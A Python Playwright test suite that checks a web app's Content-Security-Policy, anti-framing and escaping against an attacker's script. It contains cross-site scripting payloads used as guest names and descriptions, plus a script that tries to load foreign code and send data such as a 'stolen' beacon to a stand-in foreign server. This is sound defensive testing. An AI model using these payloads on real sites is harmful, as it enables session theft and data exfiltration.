"""The Content-Security-Policy as a browser holds it: on real pages of the site nothing runs, loads,
is sent or framed that is not the site's own, though a script of an attacker's asked for it.
"""

from __future__ import annotations

from collections import Counter
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.support import webserver
from tests.support.site import Site, wait_until
from tests.support.webserver import Web

foreign_site = webserver.server
NAME = "<img src=x onerror=window.ran=1>"
EVIL = """<img src=x onerror="window.ran=1"><script>window.ran=1</script><b id="mark">"'</b>"""
ATTEMPTS = """async (foreign) => {
  window.ran = [];
  window.refused = [];
  addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
    window.refused.push(effectiveDirective);
  });
  const put = (name, values) => {
    const element = Object.assign(document.createElement(name), values);
    document.body.append(element);
    return element;
  };
  const quietly = async (act) => { try { await act(); } catch { /* refused */ } };
  put("script", { textContent: "window.ran.push('inline script')" });
  const holder = put("div", {});
  holder.innerHTML = `<img src="/nowhere" onerror="window.ran.push('error handler')">`;
  holder.innerHTML += `<p style="color: red">x</p>`;
  holder.setAttribute("onclick", "window.ran.push('click handler')");
  holder.click();
  put("a", { href: "javascript:window.ran.push('address')", textContent: "x" }).click();
  put("style", { textContent: "body { --evil: 1 }" });
  put("base", { href: foreign });
  put("script", { src: `${foreign}/script.js` });
  put("script", { type: "module", src: `${foreign}/module.js` });
  put("link", { rel: "stylesheet", href: `${foreign}/style.css` });
  put("img", { src: `${foreign}/image.png` });
  put("video", { src: `${foreign}/film.mp4` });
  put("iframe", { src: `${foreign}/frame.html` });
  put("iframe", { srcdoc: "<script>parent.ran.push('frame')</script>" });
  put("object", { data: `${foreign}/object` });
  await quietly(() => import(`${foreign}/import.js`));
  await quietly(() => fetch(`${foreign}/fetch`, { mode: "no-cors" }));
  await quietly(() => navigator.sendBeacon(`${foreign}/beacon`, "stolen"));
  await quietly(() => new WebSocket(foreign.replace("http", "ws")));
  await quietly(() => new EventSource(`${foreign}/events`));
  await quietly(() => new FontFace("evil", `url(${foreign}/font.woff2)`).load());
  await quietly(() => new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))));
  // What a debugger evaluates may use eval; what a timer calls is the page's own.
  await new Promise((done) => setTimeout(() => {
    try { eval("window.ran.push('eval')"); } catch { /* refused */ }
    try { new Function("window.ran.push('function')")(); } catch { /* refused */ }
    try { setTimeout("window.ran.push('timer')", 0); } catch { /* refused */ }
    setTimeout(done, 0);
  }, 0));
  put("form", { action: `${foreign}/form`, method: "get" }).submit();
}"""
REFUSED = {
    "base-uri",
    "connect-src",
    "font-src",
    "form-action",
    "frame-src",
    "img-src",
    "media-src",
    "script-src",
    "script-src-attr",
    "script-src-elem",
    "style-src-attr",
    "style-src-elem",
    "worker-src",
}
"""What the browser says of the attempts; it names no directive for what no plug-in would show."""


@pytest.fixture(scope="module")
def guest(site: Site) -> str:
    """A guest with a console link, named and described by somebody who means harm."""
    made = site.create(NAME, is_started=False)
    site.api("PATCH", f"vms/{made['id']}", {"description": EVIL})
    return str(made["id"])


@pytest.fixture
def victim(site: Site, browser: Browser, admin_state) -> Iterator[Page]:
    """A page of the administrator on which an attacker's script may complain as it likes."""
    context = browser.new_context(storage_state=admin_state, base_url=site.url)
    yield context.new_page()
    context.close()


@pytest.mark.parametrize(
    "address",
    [
        "/",
        "/guests/{guest}/",
        "/guests/{guest}/console/",
        "/guests/{guest}/settings/",
        "/templates/",
        "/images/",
        "/people/",
        "/visit/",
        "/login/",
        "/nowhere/",
    ],
)
def test_an_attackers_script_gets_nothing_past_the_browser(
    site: Site,
    victim: Page,
    foreign_site: Web,
    guest: str,
    address: str,
) -> None:
    foreign, _routes, asked = foreign_site
    if address == "/login/":
        victim.context.clear_cookies()
    here = address.format(guest=guest)
    victim.goto(here)
    victim.evaluate(ATTEMPTS, foreign)
    all_of_them = "(names) => names.every((name) => window.refused.includes(name))"
    victim.wait_for_function(all_of_them, arg=sorted(REFUSED))
    said = Counter(victim.evaluate("window.refused"))
    assert (said["connect-src"], said["script-src"]) == (4, 3)
    assert victim.evaluate("window.ran") == []
    assert victim.evaluate("getComputedStyle(document.body).getPropertyValue('--evil')") == ""
    assert victim.url == f"{site.url}{here}"
    assert asked == []


def test_no_page_is_shown_in_a_frame_of_another_site(
    site: Site,
    victim: Page,
    foreign_site: Web,
    guest: str,
) -> None:
    foreign, routes, _asked = foreign_site
    addresses = ["/", "/login/", "/visit/", f"/guests/{guest}/console/", "/nowhere/"]
    frames = "".join(f'<iframe src="{site.url}{each}"></iframe>' for each in addresses)

    def serve(handler) -> None:
        handler.start(Content_Type="text/html")
        handler.wfile.write(f"<!doctype html><h1>free prizes</h1>{frames}".encode())

    routes["/trap"] = serve
    victim.goto(f"{foreign}/trap")
    expect(victim.locator("iframe")).to_have_count(len(addresses))
    shown = wait_until(
        lambda: [f.url for f in victim.frames[1:] if f.url not in ("", "about:blank")],
        what="frames that have loaded or were refused",
    )
    assert {url.partition(":")[0] for url in shown} == {"chrome-error"}
    assert len(victim.frames) == len(addresses) + 1


def test_a_name_and_a_description_that_mean_harm_are_text(
    site: Site, admin_page: Page, guest: str
) -> None:
    """Not even the policy is needed: the page of the fixture would complain of what it refused."""
    end = (datetime.now(UTC) + timedelta(hours=1)).isoformat()
    site.api("POST", f"vms/{guest}/console-links", {"name": EVIL[:40], "expires_at": end})
    for address in ("", "console/", "settings/", "sharing/", "history/", "delete/", "links/"):
        admin_page.goto(f"/guests/{guest}/{address}")
        assert NAME in admin_page.locator("body").inner_text(), address
        assert admin_page.locator("#mark, main script, main img[src=x]").count() == 0, address
        assert admin_page.evaluate("window.ran") is None
    admin_page.goto("/")
    expect(admin_page.locator("main")).to_contain_text(NAME)
    assert admin_page.evaluate("window.ran") is None
